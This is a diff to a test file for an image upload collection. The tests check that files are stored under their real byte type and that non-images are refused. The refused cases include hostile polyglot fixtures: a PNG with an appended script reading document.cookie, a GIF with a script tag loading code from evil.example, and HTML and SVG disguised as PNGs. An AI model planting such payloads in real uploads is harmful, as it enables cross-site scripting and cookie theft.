@@ -1,10 +1,14 @@
-/** Uploaded images get every size pages use, WebP variants beside them, and must describe themselves. */
+/**
+ * Uploaded images get every size pages use, WebP variants beside them, and must describe themselves;
+ * a file is stored under the type its bytes show, and only real images are stored.
+ */
 import fs from 'node:fs'
 import path from 'node:path'
 
 import type { Payload } from 'payload'
 import sharp from 'sharp'
 
+import { IMAGE_MESSAGES } from '../../src/collections/Images/hooks/limitPixels'
 import { createTestPayload, type TestPayload } from '../helpers/payload'
 
 let ctx: TestPayload
@@ -66,5 +70,77 @@ describe('image uploads', () => {
         file: { data, mimetype: 'application/pdf', name: 'tai-lieu.pdf', size: data.length },
       }),
     ).rejects.toMatchObject({ status: 400 })
+  })
+})
+
+describe('what an upload is stored as', () => {
+  const png = () => sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 10, g: 160, b: 90 } } }).png().toBuffer()
+  const mediaFiles = () => (fs.existsSync(process.env.MEDIA_DIR!) ? fs.readdirSync(process.env.MEDIA_DIR!).sort() : [])
+  const upload = (data: Buffer, name: string, mimetype: string) =>
+    payload.create({ collection: 'images', data: { alt: 'Tải lên' }, file: { data, mimetype, name, size: data.length } })
+
+  it.each([
+    ['x.html', 'text/html'],
+    ['anh.jpg', 'image/jpeg'],
+    ['khong-duoi', 'application/octet-stream'],
+  ])('a PNG sent as %s (%s) is stored as a .png, image/png', async (name, mimetype) => {
+    const image = await upload(await png(), name, mimetype)
+    expect(image.filename).toMatch(/\.png$/)
+    expect(image.filename!.replace(/(-\d+)?\.png$/, '')).toBe(name.replace(/\.[^.]*$/, ''))
+    expect(image.mimeType).toBe('image/png')
+    expect(fs.existsSync(path.join(process.env.MEDIA_DIR!, image.filename!))).toBe(true)
+    expect(mediaFiles().filter((file) => /\.(html|jpg)$/.test(file) && file.startsWith(name.replace(/\.[^.]*$/, '')))).toEqual([])
+  })
+
+  it('a JPEG sent as photo.png is stored as photo.jpg', async () => {
+    const image = await upload(await photo(200, 100), 'photo.png', 'image/png')
+    expect(image).toMatchObject({ mimeType: 'image/jpeg' })
+    expect(image.filename).toMatch(/^photo(-\d+)?\.jpg$/)
+  })
+
+  const refused: [string, () => Promise<Buffer>, string, string, string][] = [
+    [
+      'a PNG with a page appended (a polyglot)',
+      async () => Buffer.concat([await png(), Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>')]),
+      'polyglot.png',
+      'image/png',
+      IMAGE_MESSAGES.markup,
+    ],
+    [
+      'a GIF with a script tag after its image data',
+      async () => Buffer.concat([Buffer.from('GIF89a'), (await sharp(await png()).gif().toBuffer()).subarray(6), Buffer.from('<SCRIPT src=//evil.example/x.js></SCRIPT>')]),
+      'binh-thuong.gif',
+      'image/gif',
+      IMAGE_MESSAGES.markup,
+    ],
+    ['an HTML page named as a PNG', async () => Buffer.from('<!doctype html><html><script>alert(1)</script></html>'), 'trang.png', 'image/png', IMAGE_MESSAGES.unreadable],
+    [
+      'an SVG (it can carry scripts) named as a PNG',
+      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'),
+      've.png',
+      'image/png',
+      IMAGE_MESSAGES.notAnImageType('svg'),
+    ],
+    ['a TIFF', async () => sharp(await png()).tiff().toBuffer(), 'scan.tiff', 'image/tiff', IMAGE_MESSAGES.notAnImageType('tiff')],
+  ]
+
+  it.each(refused)('%s is refused with 400, and nothing is written', async (_, make, name, mimetype, message) => {
+    const before = mediaFiles()
+    const count = (await payload.count({ collection: 'images' })).totalDocs
+    await expect(upload(await make(), name, mimetype)).rejects.toMatchObject({ status: 400, message })
+    expect(mediaFiles()).toEqual(before)
+    expect((await payload.count({ collection: 'images' })).totalDocs).toBe(count)
+  })
+
+  it('a replacement file is named by its type too', async () => {
+    const image = await upload(await photo(300, 200), 'goc.jpg', 'image/jpeg')
+    const replaced = await payload.update({
+      collection: 'images',
+      id: image.id,
+      data: {},
+      file: { data: await png(), mimetype: 'image/jpeg', name: 'moi.jpg', size: (await png()).length },
+    })
+    expect(replaced).toMatchObject({ mimeType: 'image/png' })
+    expect(replaced.filename).toMatch(/^moi(-\d+)?\.png$/)
   })
 })
